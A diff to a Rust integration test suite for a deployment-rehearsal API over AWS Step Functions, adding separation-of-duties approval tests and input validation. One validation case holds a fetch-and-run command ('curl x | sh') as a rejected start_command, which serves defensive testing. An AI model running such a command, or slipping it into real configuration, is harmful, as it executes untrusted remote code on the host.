@@ -3,34 +3,30 @@
 //! HTTP API (payload 2.0) events, as API Gateway sends them to the function.
 //!
 //! The state machines are small stand-ins with the shapes the API relies on: the staging machine's
-//! first state `PlanRehearsal` answers `{"plan": …}`, and a promotion waits on a task token kept
-//! in the run's approval parameter (as the promote machine's `request_approval` step keeps it).
+//! first state `PlanRehearsal` answers `{"plan": …}`, and a promotion waits in `WaitForApproval`
+//! (as the promote machine does between looks at its decision parameter).
 
 use lambda_http::{Body, Request};
 use rehearsal_api::{Api, Config};
 use rehearsal_aws::{load_config, AwsCloud, StepFunctions};
-use rehearsal_core::cloud::{
-    CloudResult, ExecutionInfo, Executions, HistoryEvent, ParameterKind, ParameterStore, StartedExecution, StateMachines,
-};
-use rehearsal_core::promotion::{approval_parameter, APPROVAL_REJECTED};
-use rehearsal_core::Secret;
+use rehearsal_core::cloud::{CloudResult, ExecutionInfo, Executions, HistoryEvent, ParameterStore, StartedExecution, StateMachines};
+use rehearsal_core::promotion::{approval_parameter, ApprovalDecision, Verdict};
 use rehearsal_moto::{moto, Moto};
 use serde_json::{json, Value};
 use std::io::{Read, Write};
 use std::net::TcpStream;
 use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::Mutex;
 use std::time::{Duration, Instant};
 
 const RUN_ID: &str = "tableicty-20251225";
 const OPERATOR: &str = "arn:aws:iam::123456789012:user/operator";
+/// Someone other than the operator who asks for promotions.
+const APPROVER: &str = "arn:aws:iam::123456789012:user/approver";
 
-/// The SDK client, counting every call and keeping the last SendTaskFailure's error and cause
-/// (moto drops the cause).
+/// The SDK client, counting every call.
 struct Counting {
     inner: StepFunctions,
     calls: AtomicUsize,
-    failure_sent: Mutex<Option<(String, String)>>,
 }
 
 impl Counting {
@@ -61,21 +57,20 @@ impl StateMachines for Counting {
         self.inner.execution_history(execution_arn).await
     }
 
-    async fn send_task_success(&self, task_token: &str, output: &str) -> CloudResult<()> {
+    async fn running_executions(&self, state_machine_arn: &str) -> CloudResult<Vec<String>> {
         self.tick();
-        self.inner.send_task_success(task_token, output).await
-    }
-
-    async fn send_task_failure(&self, task_token: &str, error: &str, cause: &str) -> CloudResult<()> {
-        self.tick();
-        *self.failure_sent.lock().unwrap() = Some((error.to_string(), cause.to_string()));
-        self.inner.send_task_failure(task_token, error, cause).await
+        self.inner.running_executions(state_machine_arn).await
     }
 }
 
 /// The plan a staging run makes, as far as the API reads it.
 fn plan() -> Value {
-    json!({ "run_id": RUN_ID, "app": "tableicty", "staging_db": { "instance_id": "tableicty-staging-db" } })
+    json!({
+        "run_id": RUN_ID,
+        "app": "tableicty",
+        "staging_db": { "instance_id": "tableicty-staging-db" },
+        "service": { "source": { "code": { "repository": { "repository_url": "https://github.com/tableicty/backend", "branch": "release-42" } } } }
+    })
 }
 
 fn planned_then(next: Value) -> Value {
@@ -114,22 +109,9 @@ fn refused() -> Value {
     json!({ "StartAt": "PlanRehearsal", "States": { "PlanRehearsal": { "Type": "Fail", "Error": "InvalidInputError", "Cause": "bad" } } })
 }
 
-/// A promotion waiting for approval: a callback task that hands its token out (on the default
-/// event bus, which needs no fixture).
+/// A promotion waiting for its decision, as the promote machine waits between looks.
 fn promotion() -> Value {
-    json!({
-        "StartAt": "AwaitApproval",
-        "States": {
-            "AwaitApproval": {
-                "Type": "Task",
-                "Resource": "arn:aws:states:::events:putEvents.waitForTaskToken",
-                "Parameters": {
-                    "Entries": [{ "Source": "rehearsal", "DetailType": "approval", "Detail": { "run_id": RUN_ID, "task_token.$": "$$.Task.Token" } }]
-                },
-                "End": true
-            }
-        }
-    })
+    json!({ "StartAt": "WaitForApproval", "States": { "WaitForApproval": { "Type": "Wait", "Seconds": 3600, "End": true } } })
 }
 
 struct Fixture {
@@ -161,17 +143,24 @@ impl Fixture {
         created.state_machine_arn().to_string()
     }
 
-    /// The API over `staging` (and a teardown machine that succeeds at once).
+    /// The API over `staging` (a teardown machine that succeeds at once, a promote machine that
+    /// waits), any principal but the requester approving.
     async fn api(&self, staging: &Value) -> Api<Counting, AwsCloud> {
+        self.api_with_approvers(staging, Vec::new()).await
+    }
+
+    async fn api_with_approvers(&self, staging: &Value, approvers: Vec<String>) -> Api<Counting, AwsCloud> {
         let staging_arn = self.machine("staging", staging).await;
         let teardown = json!({ "StartAt": "TeardownStaging", "States": { "TeardownStaging": { "Type": "Pass", "End": true } } });
         let teardown_arn = self.machine("teardown", &teardown).await;
-        let config = Config { staging_state_machine_arn: staging_arn, teardown_state_machine_arn: teardown_arn };
-        Api::new(
-            Counting { inner: self.sfn.clone(), calls: AtomicUsize::new(0), failure_sent: Mutex::new(None) },
-            self.cloud.clone(),
-            config,
-        )
+        let promote_arn = self.machine("promote", &promotion()).await;
+        let config = Config {
+            staging_state_machine_arn: staging_arn,
+            promote_state_machine_arn: promote_arn,
+            teardown_state_machine_arn: teardown_arn,
+            approvers,
+        };
+        Api::new(Counting { inner: self.sfn.clone(), calls: AtomicUsize::new(0) }, self.cloud.clone(), config)
     }
 
     async fn executions(&self, state_machine_arn: &str) -> Vec<String> {
@@ -197,21 +186,22 @@ impl Fixture {
         self.settle(arn, |d, _| d.status != "RUNNING").await
     }
 
-    /// Starts a promotion and stores its task token where `request_approval` would.
-    async fn promotion_awaiting_approval(&self) -> String {
-        let machine = self.machine("promote", &promotion()).await;
-        let started = self.sfn.start_execution(&machine, "promote-1", "{}").await.unwrap();
-        let mut token = None;
-        self.settle(&started.execution_arn, |_, events| {
-            token = events.iter().filter_map(|e| e.task_scheduled_event_details()).find_map(|d| {
-                serde_json::from_str::<Value>(d.parameters()).ok()?.pointer("/Entries/0/Detail/task_token")?.as_str().map(str::to_string)
-            });
-            token.is_some()
-        })
-        .await;
-        let token = token.expect("the task token");
-        self.cloud.put_parameter(&approval_parameter(RUN_ID), &Secret::new(token), ParameterKind::SecureString, true).await.unwrap();
-        started.execution_arn
+    /// A passed staging run `passed` and its promotion `promote-1`, requested by [`OPERATOR`]
+    /// through the API and waiting for its decision; answers the promotion's execution.
+    async fn promotion_awaiting_approval(&self, api: &Api<Counting, AwsCloud>) -> ExecutionInfo {
+        let (_, started) = call(api, event("POST", "/runs", Some("passed"), Some("{}"))).await;
+        self.ended(started["execution_arn"].as_str().unwrap()).await;
+        let (status, promoted) = call(api, event("POST", "/runs/passed/promote", Some("promote-1"), None)).await;
+        assert_eq!((status, promoted["requested_by"].as_str()), (202, Some(OPERATOR)), "{promoted}");
+        let arn = promoted["execution_arn"].as_str().unwrap();
+        self.settle(arn, |_, events| events.iter().any(|e| e.state_entered_event_details().is_some_and(|d| d.name() == "WaitForApproval")))
+            .await
+    }
+
+    /// The decision the API wrote for `promotion`.
+    async fn decision(&self, promotion: &str) -> ApprovalDecision {
+        let stored = self.cloud.get_parameter(&approval_parameter(promotion)).await.unwrap().expect("a decision");
+        serde_json::from_str(stored.value.expose()).unwrap()
     }
 }
 
@@ -231,6 +221,11 @@ fn post_json(endpoint: &str, path: &str, body: &str) {
 
 /// An HTTP API (payload 2.0) event as API Gateway sends it, signed by [`OPERATOR`].
 fn event(method: &str, path: &str, key: Option<&str>, body: Option<&str>) -> Request {
+    event_as(OPERATOR, method, path, key, body)
+}
+
+/// The same, signed by `caller`.
+fn event_as(caller: &str, method: &str, path: &str, key: Option<&str>, body: Option<&str>) -> Request {
     let mut headers = json!({ "content-type": "application/json", "host": "api.example" });
     if let Some(key) = key {
         headers["idempotency-key"] = json!(key);
@@ -252,7 +247,7 @@ fn event(method: &str, path: &str, key: Option<&str>, body: Option<&str>) -> Req
             "stage": "$default",
             "time": "25/Dec/2025:10:00:00 +0000",
             "timeEpoch": 1766656800000u64,
-            "authorizer": { "iam": { "accessKey": "AKIA", "accountId": "123456789012", "callerId": "AIDA", "userArn": OPERATOR, "userId": "AIDA" } }
+            "authorizer": { "iam": { "accessKey": "AKIA", "accountId": "123456789012", "callerId": "AIDA", "userArn": caller, "userId": "AIDA" } }
         },
         "body": body,
         "isBase64Encoded": false
@@ -282,6 +277,14 @@ async fn invalid_requests_are_400_naming_the_field_before_any_call() {
         ),
         (event("POST", "/runs", Some("k1"), Some(r#"{"ttl_hours": 0}"#)), "ttl_hours"),
         (event("POST", "/runs", Some("k1"), Some(r#"{"bogus": 1}"#)), "bogus"),
+        // What runs with which powers is production's or the stack's, never the caller's.
+        (event("POST", "/runs", Some("k1"), Some(r#"{"service": {"start_command": "sh -c 'curl x | sh'"}}"#)), "service.start_command"),
+        (event("POST", "/runs", Some("k1"), Some(r#"{"service": {"connection_arn": "arn:aws:apprunner:x"}}"#)), "service.connection_arn"),
+        (
+            event("POST", "/runs", Some("k1"), Some(r#"{"staging": {"vpc_security_group_ids": ["sg-1"]}}"#)),
+            "staging.vpc_security_group_ids",
+        ),
+        (event("POST", "/runs", Some("k1"), Some(r#"{"run_id": "someone-elses"}"#)), "run_id"),
         (event("POST", "/runs", Some("k1"), Some("[]")), "(document)"),
         (event("POST", "/runs", Some("k1"), Some("{not json")), "(document)"),
         (event("POST", "/runs", Some("k1"), None), "(document)"),
@@ -292,6 +295,12 @@ async fn invalid_requests_are_400_naming_the_field_before_any_call() {
         (event("POST", "/runs/a.b/approve", None, None), "id"),
         (event("POST", "/runs/r/approve", None, Some(r#"{"comment": 3}"#)), "comment"),
         (event("POST", "/runs/r/reject", None, Some(r#"{"reason": "x"}"#)), "reason"),
+        (event("POST", "/runs/r/approve", None, Some(r#"{"promotion": "a b"}"#)), "promotion"),
+        (event("POST", "/runs/r/promote", None, None), "Idempotency-Key"),
+        (
+            event("POST", "/runs/r/promote", Some("p1"), Some(r#"{"requested_by": "arn:aws:iam::123456789012:user/someone"}"#)),
+            "requested_by",
+        ),
         (event("POST", "/environments/production/teardown", Some("t1"), Some(r#"{"run": "r"}"#)), "env"),
         (event("POST", "/environments/staging/teardown", None, Some(r#"{"run": "r"}"#)), "Idempotency-Key"),
         (event("POST", "/environments/staging/teardown", Some("t1"), Some("{}")), "run"),
@@ -424,43 +433,53 @@ async fn approving_without_a_pending_approval_is_409() {
 }
 
 #[tokio::test]
-async fn approving_answers_the_promotion_once() {
+async fn a_promotion_records_its_requester_who_cannot_approve_it_and_someone_else_can() {
     let fixture = Fixture::new().await;
     let api = fixture.api(&succeeding()).await;
-    let (_, started) = call(&api, event("POST", "/runs", Some("passed"), Some("{}"))).await;
-    fixture.ended(started["execution_arn"].as_str().unwrap()).await;
-    let promotion = fixture.promotion_awaiting_approval().await;
-    let (_, run) = call(&api, event("GET", "/runs/passed", None, None)).await;
+    let promotion = fixture.promotion_awaiting_approval(&api).await;
+    let input: Value = serde_json::from_str(promotion.input.as_deref().unwrap()).unwrap();
+    assert_eq!((input["requested_by"].as_str(), input["run_id"].as_str()), (Some(OPERATOR), Some(RUN_ID)), "{input}");
+
+    // The approver sees what would ship and who asked.
+    let (_, run) = call(&api, event_as(APPROVER, "GET", "/runs/passed", None, None)).await;
     assert_eq!(run["awaiting_approval"], true, "{run}");
+    assert_eq!(run["ships"]["code"]["repository"]["branch"], "release-42", "{run}");
+    assert_eq!((run["promotions"][0]["id"].as_str(), run["promotions"][0]["requested_by"].as_str()), (Some("promote-1"), Some(OPERATOR)));
 
-    let (status, body) = call(&api, event("POST", "/runs/passed/approve", None, Some(r#"{"comment": "ship it"}"#))).await;
+    let (status, body) = call(&api, event("POST", "/runs/passed/approve", None, Some(r#"{"comment": "mine"}"#))).await;
+    assert_eq!(status, 403, "{body}");
+    assert!(body["error"].as_str().unwrap().contains("cannot approve it"), "{body}");
+    assert_eq!(fixture.cloud.get_parameter(&approval_parameter("promote-1")).await.unwrap(), None, "nothing written");
+
+    let (status, body) = call(&api, event_as(APPROVER, "POST", "/runs/passed/approve", None, Some(r#"{"comment": "ship it"}"#))).await;
     assert_eq!(status, 200, "{body}");
-    assert_eq!(body, json!({ "id": "passed", "run_id": RUN_ID, "decision": "approved" }));
-    let promoted = fixture.ended(&promotion).await;
-    assert_eq!(promoted.status, "SUCCEEDED");
-    let output: Value = serde_json::from_str(&promoted.output.unwrap()).unwrap();
-    assert_eq!(output, json!({ "approved": true, "by": OPERATOR, "comment": "ship it" }));
-
-    // The token has been answered: a second decision finds nothing to answer.
-    let (status, body) = call(&api, event("POST", "/runs/passed/approve", None, None)).await;
-    assert_eq!(status, 409, "{body}");
-    assert!(body["error"].as_str().unwrap().contains("no pending approval"), "{body}");
+    assert_eq!(body, json!({ "id": "passed", "promotion": "promote-1", "decision": "approved", "by": APPROVER }));
+    let decision = fixture.decision("promote-1").await;
+    assert_eq!((decision.verdict, decision.by.as_str(), decision.requested_by.as_str()), (Verdict::Approved, APPROVER, OPERATOR));
+    assert_eq!((decision.promotion_started_at, decision.comment.as_deref()), (promotion.start, Some("ship it")));
+    let written = fixture.cloud.describe_parameter(&approval_parameter("promote-1")).await.unwrap().expect("described");
+    assert_eq!(written.kind, rehearsal_core::cloud::ParameterKind::String, "a decision is no secret");
 }
 
 #[tokio::test]
-async fn rejecting_fails_the_approval_with_the_rejection() {
+async fn only_the_stacks_approvers_approve_and_a_rejection_is_written_with_its_comment() {
     let fixture = Fixture::new().await;
-    let api = fixture.api(&succeeding()).await;
-    let (_, started) = call(&api, event("POST", "/runs", Some("passed"), Some("{}"))).await;
-    fixture.ended(started["execution_arn"].as_str().unwrap()).await;
-    let promotion = fixture.promotion_awaiting_approval().await;
-    let (status, body) = call(&api, event("POST", "/runs/passed/reject", None, Some(r#"{"comment": "billing looks wrong"}"#))).await;
+    let manager = "arn:aws:iam::123456789012:user/release-manager";
+    let api = fixture.api_with_approvers(&succeeding(), vec![manager.into()]).await;
+    fixture.promotion_awaiting_approval(&api).await;
+    let (status, body) = call(&api, event_as(APPROVER, "POST", "/runs/passed/approve", None, None)).await;
+    assert_eq!(status, 403, "{body}");
+    assert!(body["error"].as_str().unwrap().contains("not one of the stack's approvers"), "{body}");
+
+    let (status, body) =
+        call(&api, event_as(APPROVER, "POST", "/runs/passed/reject", None, Some(r#"{"comment": "billing looks wrong"}"#))).await;
     assert_eq!((status, body["decision"].as_str()), (200, Some("rejected")), "{body}");
-    let rejected = fixture.ended(&promotion).await;
-    assert_eq!(rejected.status, "FAILED");
-    assert_eq!(rejected.error.as_deref(), Some(APPROVAL_REJECTED));
-    let sent = api.state_machines().failure_sent.lock().unwrap().clone();
-    assert_eq!(sent, Some((APPROVAL_REJECTED.to_string(), format!("rejected by {OPERATOR}: billing looks wrong"))));
+    let decision = fixture.decision("promote-1").await;
+    assert_eq!((decision.verdict, decision.comment.as_deref()), (Verdict::Rejected, Some("billing looks wrong")));
+
+    let (status, body) = call(&api, event_as(manager, "POST", "/runs/passed/approve", None, None)).await;
+    assert_eq!(status, 200, "the last word counts until the machine reads it: {body}");
+    assert_eq!(fixture.decision("promote-1").await.by, manager);
 }
 
 #[tokio::test]
